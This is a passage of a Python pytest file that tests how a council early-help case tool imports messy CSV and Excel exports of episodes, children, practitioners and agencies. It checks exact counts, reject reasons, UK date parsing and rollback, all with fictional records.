"""Import of case-system exports: messy files made here, exact counts and reasons."""

from __future__ import annotations

import contextlib
import csv
import datetime as dt
import hashlib
import json

import openpyxl
import pytest
from builders import where

from ehkit import cases, cli, episodes, importing, rules
from ehkit import db as store

TODAY = dt.date(2026, 11, 20)
COUNCIL = "Oakvale Council Early Help Team North"
SCHOOL = "Fernbridge Primary School"


@pytest.fixture
def known(db_both):
    """Two agencies and four practitioners, written straight into the store (each back end)."""
    return add_known(db_both)


def add_known(db):
    with store.transaction(db):
        db["agencies"].insert_all([
            {"id": 1, "name": COUNCIL, "kind": "council", "sector": "Local Authority"},
            {"id": 2, "name": SCHOOL, "kind": "partner", "sector": "Education"},
        ])
        db["practitioners"].insert_all([
            {"id": 10, "name": "Bea Bramblewick", "agency_id": 1, "role": "Team Manager"},
            {"id": 11, "name": "Ada Applebridge", "agency_id": 1, "line_manager_id": 10},
            {"id": 12, "name": "Cai Cobbleworth", "agency_id": 2},
            {"id": 13, "name": "Dara Dimbleford", "agency_id": 2},
        ])
    return db


def write_csv(path, rows, encoding="utf-8"):
    with open(path, "w", encoding=encoding, newline="") as fh:
        csv.writer(fh).writerows(rows)
    return path


def read_rejects(path):
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh))


def counts(s):
    return (s.read, s.inserted, s.updated, s.unchanged, s.rejected)


def episodes_in(db):
    return {r["ehm_number"]: r for r in db.query("SELECT * FROM episodes")}


HEADER = [" ehm-Number ", "START DATE", "End date", "Lead agency", "Lead Professional",
          "Team manager", "Began as", "Ended as", "Child name", "Date of Birth"]


def test_messy_csv_counts_every_row_and_rejects_with_reasons(known, tmp_path):
    rows = [
        HEADER,
        # 2-3: one episode, two children (31/01/2026, UK day first)
        ["EHM1", "31/01/2026", "", COUNCIL, "Ada Applebridge", "Bea Bramblewick", "New request",
         "", "Isla Kettlewade", "02/03/2019"],
        ["EHM1", "31/01/2026", "", COUNCIL, "Ada Applebridge", "Bea Bramblewick", "New request",
         "", "Finn Kettlewade", "15/07/2021"],
        [],  # 4: a blank line, not a row
        ["EHM1", "31/01/2026", "", COUNCIL, "Ada Applebridge", "Bea Bramblewick", "New request",
         "", "Isla Kettlewade", "02/03/2019"],  # 5: the same as row 2
        ["EHM2", "31/02/2026", "", COUNCIL, "", "", "", "", "Gus Larkspindle", ""],  # 6
        ["EHM3", "01-Feb-2026", "", "Nowhere Agency", "", "", "", "", "Kit Moss", ""],  # 7
        ["EHM4", "2026-02-01", "", SCHOOL, "Cai Cobbleworth", "", "Step down", "", "Lumi Oak",
         "01/01/2027"],  # 8: born after today
        ["EHM5", "46053", "", SCHOOL, "", "", "", "", "Mae Pebble", "01/02/2026"],  # 9
        ["EHM6", "01/03/2026", "28/02/2026", COUNCIL, "", "", "", "", "", ""],  # 10
        ["EHM7", "01/03/2026", "30/09/2026", SCHOOL, "", "", "", "Went fishing", "", ""],  # 11
        ["", "01/03/2026", "", COUNCIL, "", "", "", "", "", ""],  # 12: no EHM number
        ["EHM8", "1-Mar-2026", "30/09/2026", SCHOOL, "Dara Dimbleford", "", "step_down",
         "Outcomes achieved", "Pip Quill", "2020-05-05"],  # 13: fine
        ["EHM9", "01/03/2026", "", COUNCIL, "Cai Cobbleworth", "", "", "", "", ""],  # 14
    ]
    path = write_csv(tmp_path / "export.csv", rows, encoding="utf-8-sig")  # with a BOM
    s = cases.import_episodes(known, path, rejects_dir=tmp_path / "rejects", today=TODAY)

    # 12 rows read (the blank line is not a row): rows 2, 3 and 13 in, 9 rejected
    assert counts(s) == (12, 3, 0, 0, 9)
    eps = episodes_in(known)
    assert set(eps) == {"EHM1", "EHM8"}
    assert eps["EHM1"]["start_date"] == "2026-01-31"
    assert eps["EHM1"]["lead_professional_id"] == 11 and eps["EHM1"]["team_manager_id"] == 10
    assert eps["EHM1"]["began_as"] == "new_request" and eps["EHM1"]["status"] == "open"
    assert eps["EHM8"]["start_date"] == "2026-03-01" and eps["EHM8"]["status"] == "closed"
    assert eps["EHM8"]["began_as"] == "step_down"
    assert eps["EHM8"]["ended_as"] == "outcomes_achieved"
    kids = {r["name"]: r["date_of_birth"] for r in known.query("SELECT * FROM children")}
    assert kids == {"Isla Kettlewade": "2019-03-02", "Finn Kettlewade": "2021-07-15",
                    "Pip Quill": "2020-05-05"}

    assert s.rejects_file == tmp_path / "rejects" / "export-rejects.csv"
    rejects = read_rejects(s.rejects_file)
    assert {(int(r["row"]), r["code"], r["field"]) for r in rejects} == {
        (5, "DUPLICATE_ROW", ""),
        (6, "IMPOSSIBLE_DATE", "start_date"),
        (7, "UNKNOWN_AGENCY", "lead_agency"),
        (8, "DOB_IN_FUTURE", "child_date_of_birth"),
        (9, "DOB_AFTER_START", "child_date_of_birth"),  # Excel serial 46053 is 31/01/2026
        (10, "END_BEFORE_START", "end_date"),
        (11, "UNKNOWN_VALUE", "ended_as"),
        (12, "MISSING_VALUE", "ehm_number"),
        (14, "UNKNOWN_PRACTITIONER", "lead_professional"),  # works for the school, not here
    }
    # The rejects file keeps the original values, column by column.
    row7 = next(r for r in rejects if r["row"] == "7")
    assert row7["value"] == "Nowhere Agency" and row7["ehm-Number"] == "EHM3"
    assert row7["START DATE"] == "01-Feb-2026"
    assert "import agencies first" in row7["reason"]
    assert "row 2" in next(r for r in rejects if r["row"] == "5")["reason"]
    assert "day/month/year" in next(r for r in rejects if r["row"] == "6")["reason"]


def test_windows_1252_file_is_read_with_its_accents(known, tmp_path):
    rows = [["EHM number", "Start date", "Lead agency", "Child name", "Child date of birth"],
            ["EHM10", "01/02/2026", COUNCIL, "Chloë O’Pebbleford", "03/04/2020"]]
    path = write_csv(tmp_path / "ansi.csv", rows, encoding="cp1252")
    raw = path.read_bytes()
    with pytest.raises(UnicodeDecodeError):
        raw.decode("utf-8")  # really not UTF-8
    s = cases.import_episodes(known, path, rejects_dir=tmp_path, today=TODAY)
    assert counts(s) == (1, 1, 0, 0, 0)
    assert [r["name"] for r in known.query("SELECT name FROM children")] == ["Chloë O’Pebbleford"]


def test_xlsx_with_title_rows_date_cells_and_serials(known, tmp_path):
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["Oakvale case list, exported 20/11/2026"])  # a title row above the header
    ws.append([])
    ws.append(["EHM Number", "Start Date", "End Date", "Lead Agency", "Child name",
               "Date of birth", "Last review date"])
    ws.append(["EHM20", dt.datetime(2026, 1, 31), None, COUNCIL, "Ivo Umber",
               dt.datetime(2018, 6, 1), 46054])  # a date cell, and a serial (01/02/2026)
    ws.append([123456, "31-Jan-2026", dt.date(2026, 5, 1), SCHOOL, "Orla Vetch", 43000, None])
    ws.append(["EHM22", dt.datetime(2026, 1, 31), dt.datetime(2026, 1, 30), SCHOOL, "", None,
               None])  # ended before it began
    path = tmp_path / "cases.xlsx"
    wb.save(path)
    s = cases.import_episodes(known, path, rejects_dir=tmp_path, today=TODAY)
    assert counts(s) == (3, 2, 0, 0, 1)
    eps = episodes_in(known)
    assert eps["EHM20"]["start_date"] == "2026-01-31"
    assert eps["EHM20"]["last_review_date"] == "2026-02-01"
    assert eps["123456"]["end_date"] == "2026-05-01"  # a number cell is the EHM number's text
    kids = {r["name"]: r["date_of_birth"] for r in known.query("SELECT * FROM children")}
    assert kids == {"Ivo Umber": "2018-06-01", "Orla Vetch": "2017-09-22"}  # 43000
    assert [(p.row, p.code) for p in s.problems] == [(6, "END_BEFORE_START")]


def test_wrong_columns_fail_fast_naming_the_missing_ones(known, tmp_path):
    path = write_csv(tmp_path / "wrong.csv", [["Case", "Began", "Agency"], ["EHM1", "x", "y"]])
    with pytest.raises(importing.WrongColumns) as e:
        cases.import_episodes(known, path, rejects_dir=tmp_path)
    message = str(e.value)
    assert "\n" not in message
    assert "ehm_number" in message and "start_date" in message and "lead_agency" in message
    assert known["episodes"].count == 0 and known["imports"].count == 0
    assert not list(tmp_path.glob("*-rejects.csv"))


def test_wrong_columns_from_the_command_line_is_one_line(known, tmp_path, capsys):
    db_file = where(known)
    path = write_csv(tmp_path / "wrong.csv", [["EHM number", "Start"], ["EHM1", "x"]])
    assert cli.main(["import", "episodes", str(path), "--db", db_file,
                     "--rejects-dir", str(tmp_path)]) == 2
    err = capsys.readouterr().err.strip()
    assert err.count("\n") == 0
    assert "missing columns" in err and "start_date" in err and "lead_agency" in err


def test_reimport_of_the_same_file_changes_nothing_and_says_so(known, tmp_path):
    rows = [HEADER,
            ["EHM1", "31/01/2026", "", COUNCIL, "Ada Applebridge", "Bea Bramblewick", "", "",
             "Isla Kettlewade", "02/03/2019"],
            ["EHM1", "31/01/2026", "", COUNCIL, "Ada Applebridge", "Bea Bramblewick", "", "",
             "Finn Kettlewade", "15/07/2021"],
            ["EHM2", "2026-02-01", "", SCHOOL, "", "", "", "", "", ""],
            ["EHM3", "31/02/2026", "", SCHOOL, "", "", "", "", "", ""]]
    path = write_csv(tmp_path / "export.csv", rows)
    first = cases.import_episodes(known, path, rejects_dir=tmp_path, today=TODAY)
    assert counts(first) == (4, 3, 0, 0, 1)
    logged = known.conn.execute("SELECT count(*) FROM change_log WHERE table_name IN "
                                "('episodes', 'children')").fetchone()[0]
    again = cases.import_episodes(known, path, rejects_dir=tmp_path, today=TODAY)
    assert counts(again) == (4, 0, 0, 3, 1)
    assert "nothing changed" in str(again)
    assert known.conn.execute("SELECT count(*) FROM change_log WHERE table_name IN "
                              "('episodes', 'children')").fetchone()[0] == logged


def test_reimport_with_corrections_updates_only_what_changed(known, tmp_path):
    rows = [HEADER,
            ["EHM1", "31/01/2026", "", COUNCIL, "Ada Applebridge", "", "", "",
             "Isla Kettlewade", "02/03/2019"],
            ["EHM2", "01/02/2026", "", SCHOOL, "", "", "", "", "Kit Moss", "01/01/2020"]]
    cases.import_episodes(known, write_csv(tmp_path / "a.csv", rows), rejects_dir=tmp_path,
                          today=TODAY)
    rows[1][2], rows[1][7] = "30/06/2026", "Outcomes achieved"  # EHM1 closed since
    rows[2][9] = "02/01/2020"  # Kit's date of birth corrected
    rows.append(["EHM2", "01/02/2026", "", SCHOOL, "", "", "", "", "Kai Moss", "05/05/2022"])
    s = cases.import_episodes(known, write_csv(tmp_path / "b.csv", rows), rejects_dir=tmp_path,
                              today=TODAY)
    assert counts(s) == (3, 1, 2, 0, 0)
    e = episodes_in(known)["EHM1"]
    assert (e["end_date"], e["status"], e["ended_as"]) == ("2026-06-30", "closed",
                                                           "outcomes_achieved")
    kids = {r["name"]: r["date_of_birth"] for r in known.query("SELECT * FROM children")}
    assert kids == {"Isla Kettlewade": "2019-03-02", "Kit Moss": "2020-01-02",
                    "Kai Moss": "2022-05-05"}
    assert not (tmp_path / "b-rejects.csv").exists()


def test_same_episode_with_different_details_is_rejected(known, tmp_path):
    rows = [HEADER,
            ["EHM1", "31/01/2026", "", COUNCIL, "Ada Applebridge", "", "", "", "Isla K", ""],
            ["EHM1", "31/01/2026", "", COUNCIL, "", "", "", "", "Finn K", ""]]
    s = cases.import_episodes(known, write_csv(tmp_path / "x.csv", rows), rejects_dir=tmp_path,
                              today=TODAY)
    assert counts(s) == (2, 1, 0, 0, 1)
    assert [(p.row, p.code, p.field) for p in s.problems] == [
        (3, "DUPLICATE_DIFFERS", "lead_professional")]
    assert "row 2 has 'Ada Applebridge'" in s.problems[0].message


def test_each_import_is_recorded_with_the_files_hash(known, tmp_path, monkeypatch):
    path = write_csv(tmp_path / "e.csv", [HEADER, ["EHM1", "31/01/2026", "", COUNCIL, "", "",
                                                   "", "", "", ""]])
    monkeypatch.setenv("EHKIT_LOGIN", "data.officer")  # as the server sets it
    s = cases.import_episodes(known, path, rejects_dir=tmp_path, today=TODAY)
    row = known["imports"].get(s.import_id)
    assert row["sha256"] == hashlib.sha256(path.read_bytes()).hexdigest()
    assert row["file_name"] == "e.csv" and row["kind"] == "episodes"
    assert (row["rows_read"], row["inserted"], row["rejected"]) == (1, 1, 0)
    assert row["imported_by"] == "data.officer"


def test_unknown_agency_is_created_when_asked(known, tmp_path):
    rows = [["EHM number", "Start date", "Lead agency"],
            ["EHM1", "01/02/2026", "Elderquay Borough Council Family Hub"],
            ["EHM2", "01/02/2026", "Thistle Young Carers"],
            ["EHM3", "31/02/2026", "Never Used Agency"]]  # rejected: its agency is not made
    s = cases.import_episodes(known, write_csv(tmp_path / "n.csv", rows), rejects_dir=tmp_path,
                              create_agencies=True, today=TODAY)
    assert counts(s) == (3, 2, 0, 0, 1)
    made = {r["name"]: r["kind"] for r in known.query("SELECT * FROM agencies WHERE id > 2")}
    assert made == {"Elderquay Borough Council Family Hub": "council",
                    "Thistle Young Carers": "partner"}
    assert sorted(s.created_agencies) == sorted(made)


def test_example_case_system_mapping_maps_the_systems_words(known, tmp_path):
    rows = [["EHM Ref", "Episode Start Date", "Episode End Date", "Lead Professional Organisation",
             "Lead Professional", "Episode Start Reason", "Episode End Reason", "Forename",
             "Surname", "DOB", "Out of Area", "Date of Last TAF Review"],
            ["EH-001", "01/01/2026", "15/06/2026", SCHOOL, "Cai Cobbleworth",
             "Step down from CSC", "Escalated to CSC", "Tam", "Saltmarrow", "01/01/2015",
             "Yes - other LA", "01/04/2026"],
            ["EH-002", "01/01/2026", "", SCHOOL, "", "Walk-in", "", "Uma", "Saltmarrow", "", "",
             ""]]
    s = cases.import_episodes(known, write_csv(tmp_path / "ehm.csv", rows),
                              mapping="example_ehm", rejects_dir=tmp_path, today=TODAY)
    assert counts(s) == (2, 1, 0, 0, 1)
    e = episodes_in(known)["EH-001"]
    assert (e["began_as"], e["ended_as"], e["cross_authority"]) == ("step_down", "stepped_up", 1)
    assert e["last_review_date"] == "2026-04-01" and e["lead_professional_id"] == 12
    assert [r["name"] for r in known.query("SELECT name FROM children")] == ["Tam Saltmarrow"]
    assert [(p.row, p.code, p.field, p.value) for p in s.problems] == [
        (3, "UNKNOWN_VALUE", "began_as", "Walk-in")]


@pytest.mark.parametrize("text, expected", [
    ("31/01/2026", dt.date(2026, 1, 31)),
    ("1/2/2026", dt.date(2026, 2, 1)),
    ("31-Jan-2026", dt.date(2026, 1, 31)),
    ("31 January 2026", dt.date(2026, 1, 31)),
    ("2026-01-31", dt.date(2026, 1, 31)),
    ("31/01/2026 00:00", dt.date(2026, 1, 31)),
    ("2026-01-31T00:00:00", dt.date(2026, 1, 31)),
    ("46053", dt.date(2026, 1, 31)),
    (46053, dt.date(2026, 1, 31)),
    (dt.datetime(2026, 1, 31, 9, 30), dt.date(2026, 1, 31)),
    ("29/02/2024", dt.date(2024, 2, 29)),
])
def test_dates_are_read_in_uk_iso_and_excel_forms(text, expected):
    assert importing.parse_date(text) == expected


@pytest.mark.parametrize("text, code", [
    ("31/02/2026", "IMPOSSIBLE_DATE"),
    ("29/02/2026", "IMPOSSIBLE_DATE"),
    ("01/13/2026", "IMPOSSIBLE_DATE"),  # US month first: read as day/month, month 13
    ("31/01/26", "BAD_DATE"),
    ("31-Foo-2026", "BAD_DATE"),
    ("next Tuesday", "BAD_DATE"),
])
def test_impossible_and_unreadable_dates_name_their_rule(text, code):
    with pytest.raises(importing.Bad) as e:
        importing.parse_date(text)
    assert e.value.code == code


def test_practitioners_with_line_managers_later_in_the_file(known, tmp_path):
    rows = [["Name", "Role", "Agency", "Team", "Line manager", "Is auditor"],
            ["Eli Elderquay", "Family Support Worker", COUNCIL, "North", "Fay Fennimore", "No"],
            ["Fay Fennimore", "Team Manager", COUNCIL, "North", "Bea Bramblewick", "Yes"],
            ["Gus Gorse", "Practitioner", SCHOOL, "", "Nobody Known", ""],
            ["Ada Applebridge", "Senior Practitioner", COUNCIL, "North", "Bea Bramblewick", "no"],
            ["Hal Holt", "Practitioner", "Unknown Trust", "", "", ""],
            ["Ivy Ink", "Practitioner", SCHOOL, "", "", "maybe"]]
    s = cases.import_practitioners(known, write_csv(tmp_path / "p.csv", rows),
                                   rejects_dir=tmp_path)
    assert counts(s) == (6, 2, 1, 0, 3)
    people = {r["name"]: r for r in known.query("SELECT * FROM practitioners")}
    assert people["Eli Elderquay"]["line_manager_id"] == people["Fay Fennimore"]["id"]
    assert people["Fay Fennimore"]["line_manager_id"] == 10
    assert people["Fay Fennimore"]["is_auditor"] == 1
    assert people["Ada Applebridge"]["id"] == 11  # the same person, updated
    assert people["Ada Applebridge"]["role"] == "Senior Practitioner"
    assert sorted((p.row, p.code, p.field) for p in s.problems) == [
        (4, "UNKNOWN_PRACTITIONER", "line_manager"),
        (6, "UNKNOWN_AGENCY", "agency"),
        (7, "UNKNOWN_VALUE", "is_auditor")]
    again = cases.import_practitioners(known, tmp_path / "p.csv", rejects_dir=tmp_path)
    assert counts(again) == (6, 0, 0, 3, 3)


def test_agencies_import_maps_kinds_and_checks_sectors(db_both, tmp_path):
    db = db_both
    rows = [["Name", "Kind", "Sector"],
            ["Oakvale Council Youth Service", "Local authority", "Local Authority"],
            ["Kettlewade Academy", "Partner", "education"],
            ["Moss Lane Clinic", "partner", "Dentistry"],
            ["kettlewade academy", "Partner", "Education"],  # the same name: a duplicate
            ["Moss Lane Clinic", "partner", "Health"]]
    s = cases.import_agencies(db, write_csv(tmp_path / "a.csv", rows), rejects_dir=tmp_path)
    assert counts(s) == (5, 3, 0, 0, 2)
    got = {r["name"]: (r["kind"], r["sector"]) for r in db.query("SELECT * FROM agencies")}
    assert got == {"Oakvale Council Youth Service": ("council", "Local Authority"),
                   "Kettlewade Academy": ("partner", "Education"),
                   "Moss Lane Clinic": ("partner", "Health")}
    assert [(p.row, p.code) for p in s.problems] == [(4, "UNKNOWN_SECTOR"),
                                                     (5, "DUPLICATE_DIFFERS")]
    assert s.problems[0].message.endswith("the sectors are: Health, Education, Voluntary, "
                                          "Local Authority, Police, Housing, Other")


@pytest.fixture
def renamed_sectors(tmp_path, monkeypatch):
    """A council's settings: Health renamed, Youth Justice added, Other renamed."""
    path = tmp_path / "council.toml"
    path.write_text('[agencies]\nsectors = ["Health and Wellbeing", "Education", '
                    '"Youth Justice", "Other agencies"]\n', encoding="utf-8")
    monkeypatch.setenv("EHKIT_SETTINGS", str(path))


def test_a_sector_renamed_or_added_in_the_settings_imports(db_both, tmp_path, renamed_sectors):
    db = db_both
    rows = [["Name", "Kind", "Sector"],
            ["Moss Lane Clinic", "Partner", "health and wellbeing"],
            ["Oakvale Youth Offending Team", "Council", "Youth Justice"],
            ["Fernbridge Surgery", "Partner", "Health"]]  # the old name: not a sector now
    s = cases.import_agencies(db, write_csv(tmp_path / "a.csv", rows), rejects_dir=tmp_path)
    assert counts(s) == (3, 2, 0, 0, 1)
    assert dict(db.execute("SELECT name, sector FROM agencies").fetchall()) == {
        "Moss Lane Clinic": "Health and Wellbeing", "Oakvale Youth Offending Team": "Youth Justice"}
    assert read_rejects(tmp_path / "a-rejects.csv")[0] == {
        "row": "4", "code": "UNKNOWN_SECTOR", "field": "sector", "value": "Health",
        "reason": rules.get("UNKNOWN_SECTOR").message + ": the sectors are: Health and "
                  "Wellbeing, Education, Youth Justice, Other agencies",
        "Name": "Fernbridge Surgery", "Kind": "Partner", "Sector": "Health"}


def test_created_agencies_sector_must_be_a_sector_of_the_settings(known, tmp_path,
                                                                  renamed_sectors, capsys):
    rows = [["EHM number", "Start date", "Lead agency"],
            ["EHM1", "01/02/2026", "Thistle Young Carers"]]
    path = write_csv(tmp_path / "n.csv", rows)
    assert cli.main(["import", "episodes", str(path), "--db", where(known), "--create-agencies"]) == 2
    assert capsys.readouterr().err == (
        "ehkit: error: mapping 'default': [create_agencies] sector = 'Other' is not a sector "
        "in the settings (the sectors are: Health and Wellbeing, Education, Youth Justice, "
        "Other agencies): name one of them there; nothing was imported\n")
    assert known.execute("SELECT count(*) FROM episodes").fetchone()[0] == 0


def test_import_command_prints_a_summary_that_adds_up(known, tmp_path, capsys):
    db_file = where(known)
    path = write_csv(tmp_path / "c.csv", [HEADER,
                                          ["EHM1", "31/01/2026", "", COUNCIL] + [""] * 6,
                                          ["EHM2", "31/02/2026", "", COUNCIL] + [""] * 6])
    assert cli.main(["import", "episodes", str(path), "--db", db_file,
                     "--rejects-dir", str(tmp_path / "r")]) == 1  # a row rejected
    out = capsys.readouterr().out
    assert "read 2 rows = 1 inserted + 0 updated + 0 unchanged + 1 rejected" in out
    assert "IMPOSSIBLE_DATE 1" in out and str(tmp_path / "r" / "c-rejects.csv") in out


def test_episode_info_gives_the_audit_forms_case_information(known, tmp_path):
    rows = [HEADER,
            ["EHM1", "31/01/2026", "", COUNCIL, "Ada Applebridge", "Bea Bramblewick", "", "",
             "Isla Kettlewade", "02/03/2019"]]
    cases.import_episodes(known, write_csv(tmp_path / "i.csv", rows), rejects_dir=tmp_path,
                          today=TODAY)
    info = episodes.episode_info(known, "EHM1")
    assert (info["lead_professional"], info["team_manager"], info["lead_agency"]) == (
        "Ada Applebridge", "Bea Bramblewick", COUNCIL)
    assert info["children"] == [{"name": "Isla Kettlewade", "date_of_birth": "2019-03-02"}]
    assert episodes.episode_info(known, info["id"])["ehm_number"] == "EHM1"
    with pytest.raises(episodes.CaseNotFound):
        episodes.episode_info(known, "EHM404")


def test_a_refused_write_leaves_nothing_half_written(known, tmp_path):
    # The store refuses one child (as a full disk or a broken constraint would): the
    # episodes written before it in the same import must not stay.
    if store.is_postgres(known):
        known.execute("CREATE FUNCTION refuse() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN "
                      "IF NEW.name = 'Boom Refused' THEN RAISE check_violation USING MESSAGE = "
                      "'refused'; END IF; RETURN NEW; END $$")
        known.execute("CREATE TRIGGER refuse BEFORE INSERT ON children FOR EACH ROW "
                      "EXECUTE FUNCTION refuse()")
    else:
        known.conn.execute("CREATE TEMP TRIGGER refuse BEFORE INSERT ON children WHEN NEW.name"
                           " = 'Boom Refused' BEGIN SELECT RAISE(ABORT, 'refused'); END")
    rows = [HEADER,
            ["EHM1", "31/01/2026", "", COUNCIL, "", "", "", "", "Isla K", "02/03/2019"],
            ["EHM2", "31/01/2026", "", COUNCIL, "", "", "", "", "Boom Refused", "02/03/2019"]]
    with pytest.raises(importing.ImportFailed, match="nothing was imported"):
        cases.import_episodes(known, write_csv(tmp_path / "r.csv", rows), rejects_dir=tmp_path,
                              today=TODAY)
    assert known["episodes"].count == 0 and known["children"].count == 0
    assert known["imports"].count == 0


FULL = ["EHM number", "Start date", "End date", "Lead agency", "Lead agency kind",
        "Lead professional", "Lead professional id", "Team manager", "Team manager id",
        "Began as", "Ended as", "Cross authority", "First review date", "Last review date",
        "Child name", "Child date of birth"]


def test_every_episode_rule_rejects_its_rows_exactly_in_row_and_field_order(known, tmp_path):
    """Each rule's code, field, value and message, row by row, and several in one row."""
    def row(ehm, start, **cells):
        out = dict.fromkeys(FULL, "")
        out.update({"EHM number": ehm, "Start date": start, "Lead agency": COUNCIL})
        out.update({k.replace("_", " "): v for k, v in cells.items()})
        return [out[h] for h in FULL]

    rows = [FULL,
            row("E1", "01/02/2026", Child_name="Ann A", Child_date_of_birth="01/01/2020"),  # 2 ok
            row("E2", "", Lead_agency=""),  # 3: two blanks
            row("E3", "2026-02-30", End_date="31/01/26"),  # 4: impossible, 2-digit year
            row("E4", "next week", First_review_date="46000.5x"),  # 5: unreadable dates
            row("E5", "01/03/2026", End_date="01/02/2026", First_review_date="01/02/2026",
                Last_review_date="15/02/2026"),  # 6: end and both reviews before start
            row("E6", "01/03/2026", First_review_date="01/05/2026",
                Last_review_date="01/04/2026"),  # 7: reviews in the wrong order
            row("E7", "01/03/2026", Child_name="Bo B", Child_date_of_birth="01/01/2027"),  # 8
            row("E8", "01/03/2026", Child_name="Cy C", Child_date_of_birth="02/03/2026"),  # 9
            row("E9", "01/03/2026", Lead_professional_id="11.5", Team_manager_id="x"),  # 10
            row("E10", "01/03/2026", Lead_professional_id="99", Team_manager="Nobody"),  # 11
            row("E11", "01/03/2026", Lead_professional="Cai Cobbleworth"),  # 12: other agency
            row("E12", "01/03/2026", Began_as="Sideways", Ended_as="Vanished",
                Cross_authority="perhaps"),  # 13: three unknown words, ended without end
            row("E13", "01/03/2026", Ended_as="Step up"),  # 14: ended without an end date
            row("E14", "01/03/2026", Child_date_of_birth="01/01/2020"),  # 15: no child name
            row("E15", "01/03/2026", Lead_agency="Nowhere Trust"),  # 16
            row("E1", "01/02/2026", Child_name="Ann A", Child_date_of_birth="01/01/2020"),  # 17
            row("E1", "01/02/2026", Team_manager="Bea Bramblewick", Child_name="Al A"),  # 18
            row("E16", "1-Feb-2026", Lead_professional="Ada Applebridge",
                Team_manager="Bea Bramblewick", Began_as="Step down", End_date="30/06/2026",
                Ended_as="Outcomes met", Cross_authority="Yes", First_review_date="46054",
                Last_review_date="2026-04-01", Child_name="Di D",
                Child_date_of_birth="3 March 2019")]  # 19 ok
    s = cases.import_episodes(known, write_csv(tmp_path / "all.csv", rows),
                              rejects_dir=tmp_path, today=TODAY)
    assert counts(s) == (18, 2, 0, 0, 16)
    began = "began 01/03/2026"
    assert [(p.row, p.code, p.field, p.value, p.message) for p in s.problems] == [
        (3, "MISSING_VALUE", "lead_agency", "", "a required value is blank"),
        (3, "MISSING_VALUE", "start_date", "", "a required value is blank"),
        (4, "BAD_DATE", "end_date", "31/01/26", rules.get("BAD_DATE").message
         + ": write the year in full (2026, not 26)"),
        (4, "IMPOSSIBLE_DATE", "start_date", "2026-02-30", rules.get("IMPOSSIBLE_DATE").message
         + ": dates are read as day/month/year"),
        (5, "BAD_DATE", "first_review_date", "46000.5x", rules.get("BAD_DATE").message),
        (5, "BAD_DATE", "start_date", "next week", rules.get("BAD_DATE").message),
        (6, "END_BEFORE_START", "end_date", "01/02/2026",
         rules.get("END_BEFORE_START").message + ": " + began),
        (6, "REVIEW_BEFORE_START", "first_review_date", "01/02/2026",
         rules.get("REVIEW_BEFORE_START").message + ": " + began),
        (6, "REVIEW_BEFORE_START", "last_review_date", "15/02/2026",
         rules.get("REVIEW_BEFORE_START").message + ": " + began),
        (7, "REVIEW_ORDER", "last_review_date", "01/04/2026", rules.get("REVIEW_ORDER").message),
        (8, "DOB_IN_FUTURE", "child_date_of_birth", "01/01/2027", rules.get("DOB_IN_FUTURE").message),
        (9, "DOB_AFTER_START", "child_date_of_birth", "02/03/2026",
         rules.get("DOB_AFTER_START").message + ": " + began),
        (10, "BAD_NUMBER", "lead_professional_id", "11.5", rules.get("BAD_NUMBER").message),
        (10, "BAD_NUMBER", "team_manager_id", "x", rules.get("BAD_NUMBER").message),
        (11, "UNKNOWN_PRACTITIONER", "lead_professional_id", "99",
         rules.get("UNKNOWN_PRACTITIONER").message + ": no practitioner with id 99"),
        (11, "UNKNOWN_PRACTITIONER", "team_manager", "Nobody",
         rules.get("UNKNOWN_PRACTITIONER").message),
        (12, "UNKNOWN_PRACTITIONER", "lead_professional", "Cai Cobbleworth",
         rules.get("UNKNOWN_PRACTITIONER").message),
        (13, "UNKNOWN_VALUE", "began_as", "Sideways", rules.get("UNKNOWN_VALUE").message
         + ": add it to the mapping file; allowed: " + ", ".join(
             cases.setting("episodes", "began_as"))),
        (13, "UNKNOWN_VALUE", "cross_authority", "perhaps",
         rules.get("UNKNOWN_VALUE").message + ": expected yes or no"),
        (13, "UNKNOWN_VALUE", "ended_as", "Vanished", rules.get("UNKNOWN_VALUE").message
         + ": add it to the mapping file; allowed: " + ", ".join(
             cases.setting("episodes", "ended_as"))),
        (13, "ENDED_WITHOUT_END_DATE", "ended_as", "Vanished",
         rules.get("ENDED_WITHOUT_END_DATE").message),
        (14, "ENDED_WITHOUT_END_DATE", "ended_as", "Step up",
         rules.get("ENDED_WITHOUT_END_DATE").message),
        (15, "MISSING_VALUE", "child_name", "",
         rules.get("MISSING_VALUE").message + ": a date of birth without a name"),
        (16, "UNKNOWN_AGENCY", "lead_agency", "Nowhere Trust", rules.get("UNKNOWN_AGENCY").message),
        (17, "DUPLICATE_ROW", "", "", rules.get("DUPLICATE_ROW").message + ": same as row 2"),
        (18, "DUPLICATE_DIFFERS", "team_manager", "Bea Bramblewick",
         rules.get("DUPLICATE_DIFFERS").message + ": row 2 has ''; differs in team_manager"),
    ]
    e = episodes_in(known)["E16"]
    assert (e["start_date"], e["end_date"], e["status"], e["ended_as"], e["began_as"]) == (
        "2026-02-01", "2026-06-30", "closed", "outcomes_achieved", "step_down")
    assert (e["first_review_date"], e["last_review_date"], e["cross_authority"]) == (
        "2026-02-01", "2026-04-01", 1)
    assert (e["lead_professional_id"], e["team_manager_id"]) == (11, 10)


def test_an_import_that_doubles_the_store_keeps_every_index_as_it_was(known, tmp_path):
    """A big import builds the episodes' and children's indexes once at the end: afterwards
    the store has the same indexes, whole, and they find the new rows."""
    pg = store.is_postgres(known)

    def indexes():
        return sorted(known.conn.execute(
            "SELECT indexname, indexdef FROM pg_indexes WHERE tablename IN ('episodes', "
            "'children')" if pg else "SELECT name, sql FROM sqlite_master WHERE type = 'index'"
            " AND tbl_name IN ('episodes', 'children')").fetchall())

    before = indexes()
    rows = [HEADER] + [[f"EHM{n}", "01/02/2026", "", COUNCIL, "", "", "", "", f"Kit K{n}",
                        "01/01/2020"] for n in range(1200)]
    s = cases.import_episodes(known, write_csv(tmp_path / "big.csv", rows),
                              rejects_dir=tmp_path, today=TODAY)
    assert counts(s) == (1200, 1200, 0, 0, 0)
    assert indexes() == before and len(before) >= 3
    if pg:  # PostgreSQL keeps its indexes through the import, and gathers its statistics
        assert known["children"].count == 1200
        for table in ("episodes", "children"):
            assert known.execute(
                "SELECT s.last_analyze IS NOT NULL, c.reltuples FROM pg_stat_user_tables s JOIN "
                "pg_class c ON c.oid = s.relid WHERE s.relname = ?", [table]).fetchone() == (
                    True, 1200), table
        return
    assert known.conn.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
    plan = " ".join(r[-1] for r in known.conn.execute(
